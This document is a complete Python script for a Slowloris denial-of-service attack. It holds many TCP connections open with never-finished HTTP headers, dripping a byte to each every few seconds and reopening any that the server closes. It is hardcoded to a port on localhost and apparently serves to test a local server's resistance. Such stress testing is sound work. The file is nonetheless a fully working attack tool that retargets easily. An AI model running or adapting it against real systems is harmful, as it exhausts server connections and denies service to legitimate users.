#!/usr/bin/env python3
"""Holds many connections whose heads never end, each a byte now and then, and opens those anew that are ended: what the tool of that
name does. `slowloris.py PORT COUNT` prints a line of JSON a second until it is killed.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import sys
import time

START = b"GET / HTTP/1.1\r\nHost: x\r\nX-Drip: "
#: Seconds between two bytes of a connection.
PAUSE = 3.0
#: Connections opened a second at most: the attack is the holding, not the opening.
OPENED = 3000


class Attack:
    def __init__(self, port: int, count: int):
        self.port = port
        self.count = count
        self.poll = select.epoll()
        self.open: dict[int, socket.socket] = {}
        #: Of them those that are connected, in the order in which they drip.
        self.begun: dict[int, socket.socket] = {}
        self.ended = 0
        self.answers: dict[str, int] = {}

    def connect(self) -> None:
        each = socket.socket()
        each.setblocking(False)
        # Of several addresses: one has too few ports for all that wait to be forgotten.
        each.bind((f"127.0.1.{1 + self.ended % 200}", 0))
        with contextlib.suppress(BlockingIOError):
            each.connect(("127.0.0.1", self.port))
        self.open[each.fileno()] = each
        self.poll.register(each, select.EPOLLOUT)

    def end(self, descriptor: int) -> None:
        each = self.open.pop(descriptor)
        self.begun.pop(descriptor, None)
        with contextlib.suppress(OSError):
            status = each.recv(100).split(b"\r\n")[0].decode("latin-1")
            self.answers[status] = self.answers.get(status, 0) + 1
        self.poll.unregister(descriptor)
        each.close()
        self.ended += 1

    def run(self) -> None:
        told, budget, last = time.monotonic(), 0.0, time.monotonic()
        turn = 0
        while True:
            for descriptor, events in self.poll.poll(0.02, 4096):
                if events & select.EPOLLOUT and not events & (select.EPOLLHUP | select.EPOLLERR):
                    self.poll.modify(descriptor, select.EPOLLIN)
                    self.begun[descriptor] = self.open[descriptor]
                    self.send(descriptor, START)
                else:
                    self.end(descriptor)
            now = time.monotonic()
            budget = min(OPENED * 0.1, budget + (now - last) * OPENED)
            # So many have their turn in this time that each has one in a pause.
            turns = int((now - last) * len(self.begun) / PAUSE) + 1
            last = now
            while len(self.open) < self.count and budget >= 1:
                budget -= 1
                self.connect()
            descriptors = list(self.begun)
            for descriptor in descriptors[turn : turn + turns]:
                self.send(descriptor, b"y")
            turn = turn + turns if turn + turns < len(descriptors) else 0
            if now - told > 1:
                told = now
                print(json.dumps({"open": len(self.open), "ended": self.ended, "answers": self.answers}), flush=True)

    def send(self, descriptor: int, data: bytes) -> None:
        try:
            self.open[descriptor].send(data)
        except BlockingIOError:
            pass
        except OSError:
            self.end(descriptor)


if __name__ == "__main__":
    Attack(int(sys.argv[1]), int(sys.argv[2])).run()
